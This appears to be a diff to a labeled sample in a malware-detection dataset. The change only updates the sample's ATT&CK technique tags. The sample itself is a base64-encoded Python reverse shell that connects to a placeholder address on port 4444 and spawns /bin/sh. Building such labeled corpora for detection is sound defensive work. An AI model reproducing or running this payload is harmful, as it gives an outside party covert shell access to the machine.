@@ -1,3 +1,3 @@
-# label: malicious family=encoded techniques=T1140,T1027,T1059.006 lines=3
+# label: malicious family=encoded techniques=T1027,T1059.004,T1059.006,T1095,T1140,T1571 lines=3
 import base64
 exec(base64.b64decode("aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMjAzLjAuMTEzLjciLDQ0NDQpKTtbb3MuZHVwMihzLmZpbGVubygpLGYpIGZvciBmIGluICgwLDEsMildO3B0eS5zcGF3bigiL2Jpbi9zaCIp"))
